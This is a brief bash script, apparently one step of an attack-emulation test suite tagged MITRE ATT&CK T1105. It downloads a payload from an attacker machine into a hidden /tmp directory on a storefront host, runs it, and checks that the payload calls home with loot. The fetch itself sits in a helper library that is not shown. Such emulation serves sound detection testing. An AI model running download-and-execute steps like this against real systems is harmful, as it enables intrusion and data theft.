#!/usr/bin/env bash
# Downloads a program from the attacker's machine into the storefront and runs it. MITRE ATT&CK T1105, Ingress Tool Transfer.
. "$(dirname "$0")/lib.sh"

later "in_storefront rm -rf /tmp/.$mark"
out=$(through_label "mkdir /tmp/.$mark; $(fetch_tool "/tmp/.$mark/payload"); /tmp/.$mark/payload evil $mark")
seen "loot from .*$mark" || stopped "the payload did not call home: $out"
worked "$out"
